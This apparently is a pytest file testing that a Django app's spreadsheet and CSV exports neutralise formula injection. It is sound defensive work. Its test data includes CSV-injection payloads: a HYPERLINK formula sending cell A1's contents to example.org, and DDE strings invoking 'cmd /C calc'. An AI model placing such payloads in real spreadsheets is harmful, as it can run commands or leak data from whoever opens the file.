"""No exported cell is ever a live formula: metingen xlsx and CSV, the report xlsx, the deal workbook.

Every export escapes through one helper, regiodeal.spreadsheets.escape_cell: a text that
starts with = + - @ (or a tab or carriage return) gets a quote in front; a signed number
stays a number.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from finance.models import Funder
from finance.workbook import workbook_export
from monitoring.models import Indicator, Measurement
from monitoring.resources import export_measurements, import_measurements
from regiodeal.spreadsheets import FORMULA_PREFIXES, escape_cell, unescape_cell
from reports import exports
from reports.selectors import report_data

DANGEROUS = [
    '=HYPERLINK("http://example.org/?"&A1,"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_starts_like_a_formula_is_quoted_and_unquoted_again(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("value", ["-5", "+31", "-1.234,50", "-1e5", "gewoon", "", None, 3, Decimal("-2.50")])
def test_numbers_and_plain_values_stay_as_they_are(value):
    assert escape_cell(value) == value


def assert_no_live_formula(workbook_bytes: bytes) -> list:
    """Every cell of every sheet: not a formula, and no text a spreadsheet would run as one."""
    book = load_workbook(io.BytesIO(workbook_bytes))  # not data_only: a formula shows as one
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert escape_cell(cell.value) == cell.value, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return values


@pytest.fixture
def dangerous_measurements(deal, coordinator):
    """Metingen whose words (typed by users) start like formulas."""
    indicator = Indicator.objects.filter(deal=deal, is_quantitative=True).order_by("code").first()
    made = []
    for day, text in enumerate(DANGEROUS, start=1):
        made.append(
            Measurement.objects.create(
                indicator=indicator,
                date=dt.date(2030, 1, day),
                value=Decimal("-5"),
                text=text,
                source_note=text,
                entered_by=coordinator,
            )
        )
    return made


def test_metingen_xlsx_export_holds_no_live_formula(client_for, coordinator, deal, dangerous_measurements):
    response = client_for(coordinator).get(reverse("monitoring:measurement-export", args=[deal.code, "xlsx"]))

    assert response.status_code == 200
    values = assert_no_live_formula(response.content)
    assert "'" + DANGEROUS[0] in values and "'" + DANGEROUS[3] in values
    assert "-5" in values  # a negative number is a number, not a formula


def test_metingen_csv_export_holds_no_live_formula(client_for, coordinator, deal, dangerous_measurements):
    response = client_for(coordinator).get(reverse("monitoring:measurement-export", args=[deal.code, "csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert escape_cell(cell) == cell, f"CSV cell would run as a formula: {cell!r}"
    assert "'" + DANGEROUS[2] in cells and "-5" in cells
    assert not any(cell.startswith(FORMULA_PREFIXES) and not cell[1:2].isdigit() for cell in cells)


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_a_metingen_export_imports_again_without_the_quotes(coordinator, deal, dangerous_measurements, file_format):
    # A leading tab or carriage return does not survive a spreadsheet (XML turns CR into LF): not compared.
    printable = dangerous_measurements[:4]
    mine = Measurement.objects.filter(pk__in=[m.pk for m in printable])
    content = export_measurements(deal=deal, user=coordinator, queryset=mine, file_format=file_format)

    report = import_measurements(deal=deal, user=coordinator, content=content, filename=f"m.{file_format}", commit=True)

    assert report.ok, [str(e) for e in report.errors[:5]]
    assert report.updated == len(printable)
    for measurement, text in zip(printable, DANGEROUS, strict=False):
        measurement.refresh_from_db()
        assert measurement.text == measurement.source_note == text


def test_report_xlsx_holds_no_live_formula(deal):
    Funder.objects.filter(deal=deal, name="Rijk").update(name=DANGEROUS[0])
    deal.programmes.filter(code="1100").update(name=DANGEROUS[1])
    deal.action_lines.filter(code="1").update(name=DANGEROUS[3])
    deal.projects.filter(code="1310").update(code="-1310", name=DANGEROUS[2])

    values = assert_no_live_formula(exports.xlsx_bytes(report_data(deal=deal, as_of=dt.date(2022, 7, 1))))

    assert "'" + DANGEROUS[0] in values  # Tabel 1: the funder
    assert "'" + DANGEROUS[1] in values  # a programme table
    assert "'" + DANGEROUS[3] in values  # an actielijn table


def test_deal_workbook_export_holds_no_live_formula(deal):
    Funder.objects.filter(deal=deal, name="Rijk").update(name=DANGEROUS[0])
    deal.projects.filter(code="1310").update(name=DANGEROUS[4], goals=DANGEROUS[5])

    values = assert_no_live_formula(workbook_export(deal=deal))

    assert "'" + DANGEROUS[0] in values and "'" + DANGEROUS[4] in values
